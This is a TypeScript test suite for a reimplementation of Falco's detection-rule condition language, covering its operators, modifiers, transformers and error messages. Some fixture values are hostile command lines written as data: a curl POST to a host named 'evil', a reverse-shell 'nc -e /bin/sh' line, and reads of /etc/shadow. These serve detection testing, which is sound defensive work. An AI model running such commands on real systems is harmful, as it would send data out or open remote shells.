// Every operator, modifier and transformer of the condition language, on the value types Falco defines,
// with Falco's semantics for missing values and multi-valued fields.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { compileError, matches } from './helpers.ts';

const ip4 = (s: string) => Uint8Array.from(s.split('.').map(Number));

describe('string operators', () => {
  const v = { 'proc.name': 'bash', 'fd.name': '/etc/shadow', 'proc.cmdline': 'curl -X POST http://evil' };
  const cases: [string, boolean][] = [
    ['proc.name = bash', true],
    ['proc.name == bash', true],
    ['proc.name = sh', false],
    ['proc.name != sh', true],
    ['proc.name != bash', false],
    // Ordering operators take numbers in the grammar; on strings they compare the text (strcmp).
    ['proc.name > 1', true],
    ['proc.name < 1', false],
    ['proc.name >= 9', true],
    ['proc.name <= 9', false],
    ['proc.cmdline contains POST', true],
    ['proc.cmdline contains post', false],
    ['proc.cmdline icontains post', true],
    ['proc.cmdline icontains EVIL', true],
    ['fd.name startswith /etc', true],
    ['fd.name startswith /usr', false],
    ['fd.name endswith shadow', true],
    ['fd.name endswith passwd', false],
    ['fd.name glob /etc/*', true],
    ['fd.name glob "/etc/s?adow"', true],
    ['fd.name glob "/etc/[a-r]*"', false],
    ['fd.name iglob /ETC/SHA*', true],
    ['fd.name glob /ETC/SHA*', false],
    ['fd.name regex "/etc/(shadow|passwd)"', true],
    ['fd.name regex "/etc/sh"', false],
    ['fd.name regex "[[:alpha:]/]+"', true],
    ['proc.name in (sh, bash, zsh)', true],
    ['proc.name in (sh, zsh)', false],
    ['proc.name intersects (bash)', true],
    ['fd.name pmatch (/etc, /usr/lib)', true],
    ['fd.name pmatch (/et, /usr/lib)', false],
    ['fd.name pmatch (/etc/shadow)', true],
    ['fd.name pmatch (/etc/shadow/x)', false],
    ['proc.name exists', true],
    ['proc.exepath exists', false],
  ];
  for (const [cond, want] of cases) test(cond, () => assert.equal(matches(cond, v), want));
});

describe('a missing value makes every comparison false, negation true', () => {
  for (const cond of [
    'proc.exepath = x',
    'proc.exepath != x',
    'proc.exepath in (x)',
    'proc.exepath contains ""',
    'proc.exepath glob *',
  ]) {
    test(cond, () => {
      assert.equal(matches(cond, {}), false);
      assert.equal(matches(`not ${cond}`, {}), true);
    });
  }
});

describe('numeric operators', () => {
  const v = {
    'proc.pid': 42,
    'user.uid': 0,
    'fd.sport': 443,
    'evt.rawtime': 1470327477881781397n,
    'test.i8': -3,
    'test.dbl': 2,
  };
  const cases: [string, boolean][] = [
    ['proc.pid = 42', true],
    ['proc.pid != 42', false],
    ['proc.pid < 100', true],
    ['proc.pid <= 42', true],
    ['proc.pid > 42', false],
    ['proc.pid >= 42', true],
    ['proc.pid in (1, 42)', true],
    ['proc.pid in (1, 2)', false],
    ['proc.pid intersects (42)', true],
    ['user.uid = 0', true],
    ['fd.sport = 443', true],
    ['fd.sport = https', true],
    ['evt.rawtime = 1470327477881781397', true],
    ['evt.rawtime > 1470327477881781396', true],
    ['test.i8 = -3', true],
    ['test.i8 = 253', true],
    ['test.dbl = 2', true],
    ['proc.pid = +42', true],
  ];
  for (const [cond, want] of cases) test(cond, () => assert.equal(matches(cond, v), want));
  test('operators numbers do not support are compile errors with Falco wording', () => {
    assert.equal(
      compileError('proc.pid contains 4'),
      "LOAD_ERR_COMPILE_CONDITION: filter error: 'contains' operator not supported for numeric filters",
    );
    assert.equal(
      compileError('proc.pid glob 4*'),
      "LOAD_ERR_COMPILE_CONDITION: filter error: 'glob' operator not supported for numeric filters",
    );
  });
  test('non-numeric literals for numeric fields', () => {
    assert.equal(compileError('proc.pid = abc'), 'LOAD_ERR_COMPILE_CONDITION: abc is not a valid number');
    assert.equal(compileError('proc.pid = 0x10'), 'LOAD_ERR_COMPILE_CONDITION: 0x10 is not a valid number');
    assert.equal(
      compileError('fd.sport = nosuchservice'),
      'LOAD_ERR_COMPILE_CONDITION: unrecognized protocol nosuchservice',
    );
  });
});

describe('booleans and buffers', () => {
  test('bool = true/false', () => {
    assert.equal(matches('proc.is_exe_writable = true', { 'proc.is_exe_writable': true }), true);
    assert.equal(matches('proc.is_exe_writable = false', { 'proc.is_exe_writable': true }), false);
    assert.equal(matches('proc.is_exe_writable != false', { 'proc.is_exe_writable': true }), true);
    assert.equal(
      compileError('proc.is_exe_writable = yes'),
      'LOAD_ERR_COMPILE_CONDITION: filter error: unrecognized boolean value yes',
    );
  });
  const buf = { 'evt.buffer': new TextEncoder().encode('GET /index.html') };
  test('bcontains and bstartswith take hex', () => {
    assert.equal(matches('evt.buffer bcontains 2f696e646578', buf), true);
    assert.equal(matches('evt.buffer bstartswith 474554', buf), true);
    assert.equal(matches('evt.buffer bstartswith 504f5354', buf), false);
    assert.equal(
      compileError('evt.buffer bcontains GET'),
      'LOAD_ERR_COMPILE_CONDITION: filter error: bcontains and bstartswith operator support hex strings only',
    );
  });
  test('buffer contains/startswith/endswith/=', () => {
    assert.equal(matches('evt.buffer contains index', buf), true);
    assert.equal(matches('evt.buffer startswith GET', buf), true);
    assert.equal(matches('evt.buffer endswith html', buf), true);
    assert.equal(matches('evt.buffer = "GET /index.html"', buf), true);
  });
  test('bcontains is not a string operator', () => {
    assert.equal(
      compileError('proc.name bcontains 41'),
      "LOAD_ERR_COMPILE_CONDITION: filter error: 'bcontains' operator not supported for string filters",
    );
  });
});

describe('IP addresses and CIDR', () => {
  const v = { 'fd.net': ip4('127.0.0.1'), 'fd.sip': ip4('10.1.2.3'), 'fd.ip': ip4('192.168.1.7') };
  const cases: [string, boolean][] = [
    ['fd.net in ("127.0.0.1/24")', true],
    ['fd.net = "127.0.0.0/8"', true],
    ['fd.net != "127.0.0.0/8"', false],
    ['fd.net in ("10.0.0.0/8", "172.16.0.0/12")', false],
    ['fd.sip = 10.1.2.3', true],
    ['fd.sip != 10.1.2.3', false],
    ['fd.sip in (10.1.2.4, 10.1.2.3)', true],
    ['fd.ip = 192.168.1.7', true],
  ];
  for (const [cond, want] of cases) test(cond, () => assert.equal(matches(cond, v), want));
  test('IPv6 never matches an IPv4 network and compares unequal', () => {
    const v6 = { 'fd.net': new Uint8Array(16), 'fd.sip': new Uint8Array(16) };
    assert.equal(matches('fd.net = "0.0.0.0/0"', v6), false);
    assert.equal(matches('fd.sip != 10.1.2.3', v6), true);
    assert.equal(matches('fd.sip = "::"', v6), true);
  });
  test('strict literals', () => {
    assert.equal(compileError('fd.sip = 010.1.2.3'), 'LOAD_ERR_COMPILE_CONDITION: unrecognized IPv4 address 010.1.2.3');
    assert.equal(compileError('fd.net = "10.0.0.0"'), 'LOAD_ERR_COMPILE_CONDITION: unrecognized IP network 10.0.0.0');
    assert.equal(compileError('fd.net = "10.0.0.0/33"'), 'LOAD_ERR_COMPILE_CONDITION: invalid netmask 33');
    assert.equal(
      compileError('fd.sip contains 10'),
      "LOAD_ERR_COMPILE_CONDITION: filter error: 'contains' operator not supported for ip address and network filters",
    );
  });
});

describe('multi-valued fields', () => {
  const v = { 'test.strs': ['a', 'b'], 'test.nums': [1, 2, 3], 'test.ips': [ip4('10.0.0.1'), ip4('10.0.0.2')] };
  test('in: every value of the field is in the list', () => {
    assert.equal(matches('test.strs in (a, b, c)', v), true);
    assert.equal(matches('test.strs in (a, c)', v), false);
    assert.equal(matches('test.nums in (1, 2, 3, 4)', v), true);
    assert.equal(matches('test.nums in (1, 2)', v), false);
    assert.equal(matches('test.ips in (10.0.0.1, 10.0.0.2)', v), true);
  });
  test('in on an empty list value is true; intersects is false', () => {
    assert.equal(matches('test.strs in (a)', { 'test.strs': [] }), true);
    assert.equal(matches('test.strs intersects (a)', { 'test.strs': [] }), false);
  });
  test('intersects: some value is in the list', () => {
    assert.equal(matches('test.strs intersects (b, z)', v), true);
    assert.equal(matches('test.strs intersects (y, z)', v), false);
    assert.equal(matches('test.nums intersects (3, 9)', v), true);
  });
  test('exists', () => assert.equal(matches('test.strs exists', v), true));
  test('other operators are refused on list fields', () => {
    assert.equal(
      compileError('test.strs = a'),
      "LOAD_ERR_COMPILE_CONDITION: filter error: '=' operator not supported list filters",
    );
    assert.equal(
      compileError('test.u16s in (1)'),
      "LOAD_ERR_COMPILE_CONDITION: filter error: list filters are not supported for type 'UINT16'",
    );
  });
});

describe('any-ancestor fields', () => {
  const v = { 'proc.aname': ['bash', 'sshd', 'systemd'], 'proc.aname[2]': 'systemd', 'proc.apid': [10, 1] };
  test('un-indexed proc.aname matches when any ancestor does, for every operator', () => {
    assert.equal(matches('proc.aname = sshd', v), true);
    assert.equal(matches('proc.aname in (sshd, dropbear)', v), true);
    assert.equal(matches('proc.aname startswith syst', v), true);
    assert.equal(matches('proc.aname = cron', v), false);
    assert.equal(matches('proc.aname != bash', v), true);
    assert.equal(matches('proc.apid = 1', v), true);
  });
  test('indexed proc.aname[2] is one ancestor', () => {
    assert.equal(matches('proc.aname[2] = systemd', v), true);
    assert.equal(matches('proc.aname[2] = sshd', v), false);
  });
});

describe('modifiers oneof, anyof, allof', () => {
  const v = { 'proc.cmdline': 'nc -e /bin/sh host' };
  const cases: [string, boolean][] = [
    ['proc.cmdline contains anyof (" -e ", " -c ")', true],
    ['proc.cmdline contains anyof (zz, yy)', false],
    ['proc.cmdline contains allof (nc, /bin/sh)', true],
    ['proc.cmdline contains allof (nc, bash)', false],
    ['proc.cmdline contains oneof (nc, bash)', true],
    ['proc.cmdline contains oneof (nc, sh)', false],
    ['proc.cmdline startswith anyof (nc, ncat)', true],
    ['proc.cmdline = anyof ("nc -e /bin/sh host", x)', true],
    ['proc.cmdline != allof (a, b)', true],
    ['proc.cmdline regex anyof ("nc .*", "x")', true],
    ['proc.cmdline glob oneof ("nc *", "x*")', true],
  ];
  for (const [cond, want] of cases) test(cond, () => assert.equal(matches(cond, v), want));
  test('a modifier word followed by and/or is a plain value', () => {
    assert.equal(
      matches('proc.cmdline contains oneof and proc.name = x', { 'proc.cmdline': 'oneof', 'proc.name': 'x' }),
      true,
    );
  });
});

describe('transformers', () => {
  const v = {
    'proc.name': 'BaSh',
    'fd.name': '/usr/bin/python3',
    'proc.args': 'aGVsbG8=',
    'test.strs': ['a', 'b'],
    'proc.pname': 'bash',
  };
  const cases: [string, boolean][] = [
    ['tolower(proc.name) = bash', true],
    ['toupper(proc.name) = BASH', true],
    ['basename(fd.name) = python3', true],
    ['len(fd.name) = 16', true],
    ['len(test.strs) = 2', true],
    ['b64(proc.args) = hello', true],
    ['join(",", test.strs) = "a,b"', true],
    ['concat(proc.pname, "-", proc.pname) = bash-bash', true],
    ['tolower(proc.name) = val(proc.pname)', true],
    ['proc.pname = tolower(proc.name)', true],
    ['toupper(tolower(proc.name)) = BASH', true],
  ];
  for (const [cond, want] of cases) test(cond, () => assert.equal(matches(cond, v), want));
  test('getopt', () => {
    const args = { 'test.strs': ['-x', '-t', 'value', '-v', 'file'] };
    assert.equal(matches('getopt(test.strs, "t:vx")[t] = value', args), true);
    assert.equal(matches('getopt(test.strs, "t:vx") intersects (v)', args), true);
  });
  test('transformer type errors', () => {
    assert.equal(
      compileError('tolower(proc.pid) = 1'),
      "LOAD_ERR_COMPILE_CONDITION: can't add field transformer: type 'INT64' is not supported by 'tolower' transformer applied on field 'proc.pid'",
    );
    assert.equal(
      compileError('tolower(proc.aname) = x'),
      "LOAD_ERR_COMPILE_CONDITION: field 'proc.aname' does not support transformers",
    );
    assert.equal(
      compileError('join(",", proc.name) = x'),
      'LOAD_ERR_COMPILE_CONDITION: join() second argument must be a list',
    );
  });
  test('b64 of invalid input does not match', () =>
    assert.equal(matches('b64(proc.args) = x', { 'proc.args': '%%%' }), false));
});

describe('field against field with val()', () => {
  test('equal and unequal', () => {
    assert.equal(matches('proc.name = val(proc.pname)', { 'proc.name': 'a', 'proc.pname': 'a' }), true);
    assert.equal(matches('proc.name != val(proc.pname)', { 'proc.name': 'a', 'proc.pname': 'b' }), true);
    assert.equal(matches('proc.pid > val(proc.ppid)', { 'proc.pid': 5, 'proc.ppid': 4 }), true);
  });
  test('type mismatch and unsupported sides are errors', () => {
    assert.equal(
      compileError('proc.name = val(proc.pid)'),
      "LOAD_ERR_COMPILE_CONDITION: field 'proc.name' has type 'CHARBUF' while the right-hand side field 'proc.pid' has incompatible type 'INT64'",
    );
    assert.equal(
      compileError('proc.name regex val(proc.pname)'),
      "LOAD_ERR_COMPILE_CONDITION: operator 'REGEX' doesn't support right-hand side fields",
    );
  });
});

describe('field arguments', () => {
  test('proc.env[HOME], evt.arg.flags, evt.arg[0], evt.rawarg.res', () => {
    assert.equal(matches('proc.env[HOME] = /root', { 'proc.env[HOME]': '/root' }), true);
    assert.equal(matches('evt.arg.flags contains O_RDWR', { 'evt.arg[flags]': 'O_RDWR|O_CREAT' }), true);
    assert.equal(matches('evt.arg[0] = 3', { 'evt.arg[0]': '3' }), true);
    assert.equal(matches('evt.rawarg.res < 0', { 'evt.rawarg[res]': -2 }), true);
    assert.equal(matches('evt.rawarg.name = /tmp/x', { 'evt.rawarg[name]': '/tmp/x' }), true);
  });
  test('a glob inside a field argument', () => {
    assert.equal(
      matches('container.mount.dest[/var/run/docker.sock] exists', {
        'container.mount.dest[/var/run/docker.sock]': '/var/run/docker.sock',
      }),
      true,
    );
    assert.equal(
      matches('container.mount.dest["/var/run/*"] exists', { 'container.mount.dest[/var/run/*]': 'x' }),
      true,
    );
  });
});

describe('logic and precedence', () => {
  const v = { 'proc.name': 'a', 'proc.pname': 'b' };
  const cases: [string, boolean][] = [
    ['proc.name = a or proc.name = x and proc.pname = z', true],
    ['(proc.name = a or proc.name = x) and proc.pname = z', false],
    ['not proc.name = a or proc.pname = b', true],
    ['not (proc.name = a or proc.pname = b)', false],
    ['not not proc.name = a', true],
    ['not(proc.name = x)', true],
    ['proc.name=a and(proc.pname=b)', true],
    ['proc.name in(a,b)', true],
  ];
  for (const [cond, want] of cases) test(cond, () => assert.equal(matches(cond, v), want));
});

describe('parse errors keep libsinsp wording', () => {
  const cases: [string, string][] = [
    ['evt.type=execve foo', "unexpected token after 'execve', expecting 'or', 'and'"],
    ['proc.name =', 'expected a string value or a field with a valid transformer'],
    ['proc.name in (a', "expected a ')' token"],
    ['(proc.name = a', "expected a ')' token"],
    ['proc.name foo a', 'expected a valid check operator'],
    ['proc.name = "a\\q"', 'unsupported string escape sequence: \\q'],
    ['proc.nobody = x', 'filter_check called with nonexistent field proc.nobody'],
    ['evt.type = notanevent', 'unknown event type notanevent'],
  ];
  for (const [cond, want] of cases) test(cond, () => assert.ok(compileError(cond).includes(want), compileError(cond)));
});
